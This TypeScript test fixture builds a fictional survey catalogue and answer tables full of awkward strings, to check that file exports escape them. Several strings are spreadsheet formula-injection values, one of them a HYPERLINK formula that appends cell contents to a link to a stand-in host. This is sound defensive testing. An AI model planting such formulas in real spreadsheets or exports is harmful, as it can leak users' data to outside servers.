import type { ExportedAnswer } from '#lib/export/tables/answer-rows.ts';
import {
	type AnswerTable,
	type AnswerTableOptions,
	answerTable
} from '#lib/export/tables/answer-table.ts';
import { indicatorMeasure } from '#lib/model/asked-measure.ts';
import { type Catalogue, catalogue as catalogueSchema } from '#lib/model/catalogue.ts';
import type { ShownAnswer, ShownFigure } from '#lib/model/shown-answer.ts';

/** Texts that a careless writer of files breaks on. */
export const nastyTexts = {
	quotes: 'dijo "no", y \'sí\'; luego, nada',
	lines: 'first line\nsecond line',
	formula: '=HYPERLINK("http://example.org/?"&A1,"x")',
	minus: '-1+1',
	apostrophe: "'=1+1",
	signs: '<b>&amp; 5 < 6 > 4 😀 👩‍👩‍👧 ﬁ',
	scripts: '東京都 · Ελλάδα · מזרח · ภาคเหนือ · Ⓜ️',
	property: 'constructor',
	escape: '_x0041_ and a tab\tinside'
} as const;

const es = (text: string) => ({ es: text, en: `${text} (en)` });

/** A survey of a fictional country, with names and terms that are hard on files. */
export const nastyCatalogue: Catalogue = catalogueSchema.parse({
	surveys: [
		{
			...{ id: 'test-2024', series: 'test', country: 'XTT', mode: 'web', tier: 'open' },
			...{ title: es(nastyTexts.quotes), shortTitle: es(nastyTexts.minus) },
			producer: { name: 'Oficina & Hijos {S_A}' },
			fieldwork: { start: '2023-11-01', end: '2024-02-01' },
			universe: es(nastyTexts.scripts),
			licence: { name: nastyTexts.formula, url: 'https://example.org/a?b=1&c=2' },
			citation: `Oficina: ${nastyTexts.lines}`,
			...{ synthetic: true, status: 'built', completeness: 'full', tables: [] },
			questions: [
				{
					...{ id: 'p1', concept: 'sale', language: 'es', wording: '¿Se vende "droga"?' },
					answers: [{ code: '1', label: 'Sí' }],
					universe: es('a todos'),
					...{ recall: 'none', radius: 'neighbourhood' },
					source: { document: 'Cuestionario', producer: 'Oficina', year: 2023 }
				}
			]
		}
	],
	concepts: [
		{
			...{ id: 'area', kind: 'category', label: es('Zona'), definition: es('Zona') },
			breakdown: true,
			categories: Object.entries(nastyTexts).map(([id, text]) => ({ id, label: es(text) }))
		},
		{
			...{ id: 'sex', kind: 'category', label: es(nastyTexts.signs), definition: es('Sexo') },
			breakdown: true,
			categories: [
				{ id: 'woman', label: es('mujer') },
				{ id: 'man', label: es(nastyTexts.escape) }
			]
		},
		{
			...{ id: 'sale', kind: 'category', label: es('Venta'), definition: es('Venta') },
			categories: [
				{ id: 'yes', label: es('sí') },
				{ id: 'no', label: es('no') }
			]
		},
		{
			...{ id: 'price', kind: 'number', label: es('Precio'), definition: es('Precio') },
			unit: es('pesos')
		}
	],
	indicators: [
		indicator('sees-sale', { statistic: 'proportion', concept: 'sale', numerator: ['yes'] }),
		indicator('sale-total', { statistic: 'total', concept: 'sale', numerator: ['yes'] }),
		indicator('mean-price', { statistic: 'mean', concept: 'price' })
	]
});

function indicator(id: string, of: object) {
	const label = es(nastyTexts.quotes);
	const fixed = { measures: 'population', direction: 'none', sentence: es('{value}') };
	return { id, label, definition: es(nastyTexts.lines), ...fixed, ...of };
}

const nastySurvey = nastyCatalogue.surveys[0]!;

type Figure = Extract<ShownFigure, { kind: 'figure' }>;
type NoFigure = Extract<ShownFigure, { kind: 'none' }>;

export const shownFigure = (changes: Partial<Figure> = {}): Figure => ({
	...{ kind: 'figure', domain: [], n: 412, events: 123, estimate: 0.1 + 0.2, standardError: 1 / 3 },
	...{ lower: 1e-7, upper: 0.9999999999999999, interval: 'log-odds-t', df: 57, deff: 1.25 },
	precision: 'design-based',
	quality: { label: 'reliable', reasons: [] },
	...changes
});

export const noFigure = (changes: Partial<NoFigure> = {}): NoFigure => ({
	...{ kind: 'none', domain: [], reason: 'suppressed', details: [], n: null },
	...changes
});

export const shownAnswer = (changes: Partial<ShownAnswer> = {}): ShownAnswer => ({
	...{ figures: [], overall: shownFigure(), level: 0.95, unsure: 'category', unsureShare: 0.06 },
	...{ bounds: null, withoutBreakdown: 3, sql: [] },
	...changes
});

const inArea = (category: string) => [{ concept: 'area', category }];
const reason = { rule: 'df', quantity: 'df', value: 6, is: 'below', limit: 9 } as const;

/** Figures of every kind, one an area whose name is hard on files. */
export const everyFigure: readonly ShownFigure[] = [
	shownFigure({ domain: inArea('quotes') }),
	noFigure({ domain: inArea('lines') }),
	shownFigure({
		domain: inArea('formula'),
		quality: { label: 'unreliable', reasons: [reason, { ...reason, quantity: 'n', value: null }] }
	}),
	shownFigure({ domain: inArea('minus'), lower: null, interval: 'score' }),
	shownFigure({
		...{ domain: inArea('apostrophe'), estimate: -2.5, n: null, df: null, deff: null },
		...{ precision: 'lower-bound', quality: { label: 'not-assessable', reasons: [] } }
	}),
	noFigure({
		...{ domain: inArea('signs'), reason: 'lonely-psu', n: 40 },
		details: ['=1;2', nastyTexts.scripts]
	}),
	noFigure({ domain: inArea('scripts'), reason: 'no-cases', n: 0 }),
	shownFigure({ domain: inArea('property'), quality: null, estimate: 0 }),
	shownFigure({ domain: inArea('escape'), estimate: 123456789.12345679 })
];

export function exportedAnswer(
	changes: Partial<ExportedAnswer> = {},
	id = 'sees-sale'
): ExportedAnswer {
	return {
		answer: shownAnswer({ figures: everyFigure }),
		survey: nastySurvey,
		measure: indicatorMeasure(nastyCatalogue.indicators.find((one) => one.id === id)!),
		view: { by: ['area'], where: [] },
		...changes
	};
}

export const nastyTable = (changes: Partial<AnswerTableOptions> = {}): AnswerTable =>
	answerTable({
		catalogue: nastyCatalogue,
		locale: 'es',
		answers: [exportedAnswer()],
		...{ title: `+${nastyTexts.quotes}`, subtitle: nastyTexts.signs },
		notes: [nastyTexts.formula, nastyTexts.scripts],
		release: { id: 'r1', date: '2024-06-01' },
		address: 'https://example.org/es/explore/?survey=test-2024&by=area',
		created: '2024-06-02',
		...changes
	});
